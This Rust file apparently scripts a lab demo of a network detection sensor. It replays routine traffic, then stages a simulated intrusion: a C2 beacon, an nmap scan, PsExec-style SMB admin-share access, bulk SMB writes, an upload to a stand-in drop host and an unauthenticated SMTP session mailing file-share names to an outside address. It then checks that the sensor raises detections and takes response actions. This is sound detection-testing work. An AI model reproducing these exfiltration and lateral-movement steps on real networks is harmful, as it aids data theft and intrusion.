//! The story the demo tells, step by step: what the sensor learnt before, the sensor
//! starting with Defender connected, an ordinary morning, the attack, Defender's alerts
//! with fusion and investigation, and the response; each step adds to the summary.

use std::{
    path::Path,
    process::Command,
    thread,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use anyhow::Context as _;
use serde_json::Value;
use xtask::{
    agent::{Agent, SHORT_TIMEOUTS},
    office::{self, Office},
};

use super::{Cli, POLICY, acts, psexec, services, summary::Summary};
use crate::process::{banner, run as run_cmd, say, sensor_json};

/// What ws-03's implant sends to the outside mail server: an SMTP session with no `AUTH`.
const MAIL_OUT: &[u8] = b"EHLO ws-03\r\nMAIL FROM:<it-support@corp.example>\r\n\
    RCPT TO:<drop@files.example.org>\r\nDATA\r\nSubject: shares\r\n\r\n\\\\fs-01\\finance\r\n\
    .\r\nQUIT\r\n";

pub(super) fn tell(
    lab: &Office,
    sensor: &Path,
    standin: &Path,
    scratch: &Path,
    check: &dyn Fn() -> anyhow::Result<()>,
) -> anyhow::Result<Summary> {
    for line in office_picture(lab) {
        say(&line);
    }
    let mut summary = Summary::default();
    let state = scratch.join("state");
    let reports = xtask::target_dir().join("demo");
    let _ = std::fs::remove_dir_all(&reports);
    std::fs::create_dir_all(&reports).context("failed to create target/demo")?;

    banner("4/9 what the sensor learnt before today: four days of this network's routine");
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .context("the clock is before 1970")?
        .as_secs();
    let capture = scratch.join("routine.pcap");
    xtask::story::write_routine(&capture, now - 3600, 4)
        .context("failed to write the routine capture")?;
    let state_arg = state.to_string_lossy().into_owned();
    let replayed = sensor_json(
        sensor,
        &[
            "replay",
            "--json",
            "--internal",
            office::INSIDE,
            "--state-dir",
            &state_arg,
            &capture.to_string_lossy(),
        ],
    )?;
    say(&format!(
        "$ sensor replay routine.pcap   (every two hours, each host browses the intranet and \
         the web)\n  {} frames through the XDP program into {} connection records, {} breaches",
        replayed["frames"], replayed["records"], replayed["breaches"]
    ));
    run_cmd(Command::new(sensor).args(["devices", "--state-dir", &state_arg]))?;
    summary.row(
        "learnt",
        "four days of routine, quietly",
        &format!(
            "{} records, {} breaches",
            replayed["records"], replayed["breaches"]
        ),
        replayed["records"].as_u64().unwrap_or(0) > 0 && replayed["breaches"] == 0,
    );
    check()?;

    banner("5/9 the sensor starts on the gateway, with the Defender tenant connected");
    let _servers = services::start(lab, scratch)?;
    let mut defender = services::Defender::start(standin, &lab.gateway, &scratch.join("defender"))?;
    let config = scratch.join("sensor.toml");
    std::fs::write(&config, format!("{}{POLICY}", defender.config()))
        .context("failed to write the demo's config file")?;
    let (never, allow) = (
        format!("{}/32", office::GATEWAY_INSIDE_IP),
        format!("{}/32", office::DNS_IP),
    );
    let config_arg = config.to_string_lossy();
    let mut args = SHORT_TIMEOUTS.to_vec();
    args.extend([
        "--internal",
        office::INSIDE,
        "--never-block",
        &never,
        "--quarantine-allow",
        &allow,
        "--config",
        &config_arg,
    ]);
    let agent = Agent::start(
        sensor,
        &lab.gateway,
        &lab.watched(),
        &lab.pin_dir(),
        &scratch.join("run"),
        &scratch.join("agent.log"),
        &args,
    )?;
    let live_from = Instant::now();
    // `--since` for what happened since the agent started.
    let since = || format!("{}s", live_from.elapsed().as_secs() + 2);
    let cli = Cli {
        sensor: sensor.to_path_buf(),
        socket: scratch.join("run").join("sensor.sock"),
    };
    say(&format!(
        "$ sensor run --iface {} --internal {} --config sensor.toml   (XDP on every switch \
         port and the outside link)",
        lab.watched().join(" --iface "),
        office::INSIDE
    ));
    let routine = defender.hello["routine"].as_u64().unwrap_or(0);
    // The first poll fetches every page before fusion scores the alerts: wait for both.
    let started = Instant::now();
    let stored = loop {
        let stored = cli.list(&["edr", "alerts", "--limit", "0"]);
        let all_scored = stored.iter().all(|a| !a["rarity"].is_null());
        if (stored.len() as u64 == routine && all_scored)
            || started.elapsed() > Duration::from_secs(30)
        {
            break stored;
        }
        thread::sleep(Duration::from_millis(400));
    };
    let polled = stored.len() as u64 == routine;
    let unusual = stored.iter().filter(|a| surfaced(a)).count();
    say(&format!(
        "  Defender (Graph stand-in, {}): {} alerts of the past 20 days polled; {} of them \
         unusual for their device (each common alert type the first time on a device)",
        defender.hello["base"].as_str().unwrap_or(""),
        stored.len(),
        unusual
    ));
    summary.row(
        "EDR",
        "Defender's 20 days of routine alerts polled and joined",
        &format!("{} of {routine} stored, {unusual} unusual", stored.len()),
        polled && stored.len() as u64 == routine,
    );
    check()?;

    banner("6/9 an ordinary morning: web and DNS from every host");
    let mut ordinary = 0;
    for (host, ns) in &lab.hosts[..4] {
        let www = acts::resolve(ns, "www.example.com");
        let intranet = acts::get(
            ns,
            "web-01.corp.example",
            "10.77.1.30",
            80,
            xtask::story::BROWSER,
        );
        let web = acts::get(
            ns,
            "www.example.com",
            office::WWW_IP,
            80,
            xtask::story::BROWSER,
        );
        say(&format!(
            "  {}: dig www.example.com -> {www}; intranet {intranet}; www.example.com {web}",
            host.name
        ));
        ordinary += usize::from(intranet == "200") + usize::from(web == "200");
    }
    say("  ws-03 starts polling cdn-update.example.net (203.0.113.66:443) every 2 seconds");
    acts::resolve(lab.host("ws-03"), "cdn-update.example.net");
    let mut beacon = acts::Beacon::start(
        lab.host("ws-03"),
        "cdn-update.example.net",
        office::C2_IP,
        443,
        Duration::from_secs(2),
    );
    thread::sleep(Duration::from_secs(3));
    cli.show(&["conns", "--limit", "12"])?;
    let quiet = cli
        .list(&["breaches", "--since", &since(), "--limit", "0"])
        .is_empty();
    summary.row(
        "ordinary use",
        "8 web visits answered, no breach",
        &format!(
            "{ordinary} answered, {}",
            if quiet { "no breach" } else { "breaches!" }
        ),
        ordinary == 8 && quiet,
    );
    check()?;

    banner("7/9 the attack, as the network sees it");
    let ws02 = lab.host("ws-02");
    let code = acts::get(
        ws02,
        "web-01.corp.example",
        "10.77.1.30",
        80,
        "python-requests/2.31.0",
    );
    say(&format!(
        "  ws-02: a script fetches the intranet (python-requests/2.31.0) -> {code}"
    ));
    acts::scan(ws02, "10.77.1.20")?;
    say("  ws-02: nmap -sT -p 1-1024 fs-01");
    let mut admin = services::sink(lab.host("fs-01"), "10.77.1.20", 445)?;
    let opened = acts::send(ws02, "10.77.1.20", 445, &psexec::opening("fs-01"))?;
    let _ = admin.wait();
    say(&format!(
        "  ws-02: connects to \\\\fs-01\\ADMIN$ and binds to its service manager (svcctl), \
         as PsExec does -> {}",
        done(opened)
    ));
    let mut smb = services::sink(lab.host("fs-01"), "10.77.1.20", 445)?;
    let wrote = acts::push(ws02, "10.77.1.20", 445, 60_000_000)?;
    let _ = smb.wait();
    say(&format!(
        "  ws-02: writes 60 MB to fs-01 over SMB (445) -> {}",
        done(wrote)
    ));
    let fs01 = lab.host("fs-01");
    let mut drop_site = services::sink(&lab.internet, office::DROP_IP, 8443)?;
    let sent = acts::push(fs01, office::DROP_IP, 8443, 30_000_000)?;
    let _ = drop_site.wait();
    say(&format!(
        "  fs-01: uploads 30 MB to files.example.org ({}:8443) -> {}",
        office::DROP_IP,
        done(sent)
    ));
    let ws03 = lab.host("ws-03");
    let fetched = acts::get(
        ws03,
        office::WWW_IP,
        office::WWW_IP,
        80,
        xtask::story::BROWSER,
    );
    say(&format!(
        "  ws-03: the implant fetches its next stage from http://{}/, a server with no name -> {fetched}",
        office::WWW_IP
    ));
    let mut mx = services::sink(&lab.internet, office::DROP_IP, 25)?;
    let mailed = acts::send(ws03, office::DROP_IP, 25, MAIL_OUT)?;
    let _ = mx.wait();
    say(&format!(
        "  ws-03: mails a list of fs-01's shares straight to a mail server outside ({}:25), \
         without authenticating -> {}",
        office::DROP_IP,
        done(mailed)
    ));
    check()?;
    let expected = [
        ("ws-03", "10.77.1.13", "beacon-address"),
        ("ws-02", "10.77.1.12", "rare-user-agent"),
        ("ws-02", "10.77.1.12", "scan-vertical"),
        ("ws-02", "10.77.1.12", "lateral-movement"),
        ("ws-02", "10.77.1.12", "admin-share"),
        ("ws-02", "10.77.1.12", "remote-execution-rpc"),
        ("ws-02", "10.77.1.12", "smb-write-volume"),
        ("fs-01", "10.77.1.20", "exfiltration"),
        ("ws-03", "10.77.1.13", "http-to-ip-address"),
        ("ws-03", "10.77.1.13", "direct-smtp"),
    ];
    for (name, ip, model) in expected {
        let found = cli.wait_for(
            &["breaches", "--device", ip, "--model", model, "--limit", "0"],
            Duration::from_secs(40),
            |_| true,
        );
        say(&format!(
            "  {name}: {model} {}",
            if found { "breach" } else { "NOT raised" }
        ));
        summary.row(
            "detect",
            &format!("{model} on {name}"),
            if found { "breach" } else { "none" },
            found,
        );
    }
    check()?;

    banner("8/9 Defender raises its alerts; fusion, investigation and response follow");
    for host in ["ws-03", "ws-02", "fs-01"] {
        let titles = defender.release(host)?;
        for t in &titles {
            say(&format!("  Defender on {host}: {t}"));
        }
    }
    let c2_blocked = cli.wait_for(&["actions"], Duration::from_secs(30), |a| {
        a["policy"] == "edr-network-evidence" && a.to_string().contains(office::C2_IP)
    });
    let pending = {
        cli.wait_for(&["actions"], Duration::from_secs(30), |a| {
            a["policy"] == "ransomware-needs-a-human" && a["state"] == "pending"
        });
        cli.list(&["actions"])
            .into_iter()
            .find(|a| a["policy"] == "ransomware-needs-a-human")
    };
    // Give the beacon time to run into the block.
    thread::sleep(Duration::from_secs(6));
    cli.show(&["edr", "alerts", "--unusual", "--limit", "8"])?;
    cli.show(&["breaches", "--limit", "20"])?;
    cli.show(&[
        "breaches",
        "--model",
        "beacon-address",
        "--evidence",
        "--limit",
        "1",
    ])?;
    for (model, name) in [
        ("edr-c2-beacon", "ws-03"),
        ("edr-credential-access-lateral", "ws-02"),
        ("edr-impact-smb-volume", "fs-01 / ws-02"),
    ] {
        let found = cli.wait_for(
            &["breaches", "--model", model, "--limit", "0"],
            Duration::from_secs(20),
            |_| true,
        );
        summary.row(
            "fuse",
            &format!("{model} ({name})"),
            if found { "breach" } else { "none" },
            found,
        );
    }
    let new_alerts = cli
        .list(&["edr", "alerts", "--unusual", "--limit", "0"])
        .len()
        .saturating_sub(unusual);
    summary.row(
        "fuse",
        "Defender's 4 story alerts unusual for their devices",
        &format!("{new_alerts} more unusual"),
        new_alerts == 4,
    );

    cli.wait_for(&["incidents"], Duration::from_secs(20), |_| true);
    thread::sleep(Duration::from_secs(2));
    cli.show(&["incidents"])?;
    let incidents = cli.list(&["incidents"]);
    let mut written = Vec::new();
    for incident in &incidents {
        let id = incident["id"].to_string();
        for format in ["md", "html", "pdf"] {
            let path = reports.join(format!("incident-{id}.{format}"));
            run_cmd(&mut cli.cmd(&[
                "incident",
                &id,
                "--report",
                format,
                "-o",
                &path.to_string_lossy(),
            ]))?;
            written.push(path);
        }
    }
    let story_incident = incidents.iter().find(|i| {
        let devices = i["devices"].to_string();
        devices.contains("10.77.1.12") && devices.contains("10.77.1.20")
    });
    if let Some(first) = story_incident.or(incidents.first()) {
        let md = reports.join(format!("incident-{}.md", first["id"]));
        say(&format!(
            "\n$ sensor incident {}   (the start of the report)",
            first["id"]
        ));
        for line in std::fs::read_to_string(&md)
            .unwrap_or_default()
            .lines()
            .take(24)
        {
            say(&format!("  {line}"));
        }
        say(&format!(
            "  ...\n  reports: {}/incident-*.{{md,html,pdf}}",
            reports.display()
        ));
    }
    summary.row(
        "investigate",
        "one incident holds ws-02 and fs-01; reports written",
        &format!("{} incidents, {} reports", incidents.len(), written.len()),
        story_incident.is_some() && written.iter().all(|p| p.exists()),
    );
    check()?;

    banner("9/9 response: what the policies did, and what they stopped");
    cli.show(&["actions"])?;
    let (answered, failed) = beacon.stop();
    say(&format!(
        "  ws-03's beacon: {answered} polls answered before the block, {failed} dropped after it"
    ));
    summary.row(
        "respond",
        "C2 blocked by the shipped policy; the beacon's polls dropped",
        &format!("{answered} answered, {failed} dropped"),
        c2_blocked && failed > 0,
    );
    let approved = if let Some(action) = &pending {
        let id = action["id"].to_string();
        say("  the analyst confirms the ransomware and approves the quarantine");
        cli.show(&["approve", &id])?;
        thread::sleep(Duration::from_millis(500));
        let cut = !acts::connects(fs01, office::WWW_IP, 80);
        say(&format!(
            "  fs-01 -> www.example.com:80 {}",
            if cut {
                "is dropped (quarantined)"
            } else {
                "still connects"
            }
        ));
        cli.show(&["action", &id])?;
        cut
    } else {
        say("  NO pending quarantine from the ransomware policy");
        false
    };
    summary.row(
        "respond",
        "ransomware: quarantine of fs-01 waits for approval, then holds",
        if approved {
            "approved, fs-01 cut off"
        } else {
            "not enforced"
        },
        approved,
    );
    drop(agent);
    let _ = std::fs::copy(scratch.join("agent.log"), reports.join("agent.log"));
    summary.print();
    Ok(summary)
}

fn surfaced(alert: &Value) -> bool {
    alert["rarity"]["surfaced"].as_bool().unwrap_or(false)
}

fn done(ok: bool) -> &'static str {
    if ok { "sent" } else { "FAILED" }
}

/// The lab as a picture, with the namespaces' interface names.
fn office_picture(lab: &Office) -> Vec<String> {
    let mut lines = Vec::new();
    for ((host, _), port) in lab.hosts.iter().zip(&lab.ports) {
        lines.push(format!(
            "  {:>6} {:<11} {} ── [{port}]",
            host.name, host.ip, host.mac
        ));
    }
    lines.push(format!(
        "  {:>6} bridge {} ── gateway ── [{}] {} ── internet: www {}, dns {}, files {}, C2 {}",
        "",
        office::GATEWAY_INSIDE_IP,
        lab.outside_if,
        office::GATEWAY_OUTSIDE_IP,
        office::WWW_IP,
        office::DNS_IP,
        office::DROP_IP,
        office::C2_IP
    ));
    lines
}
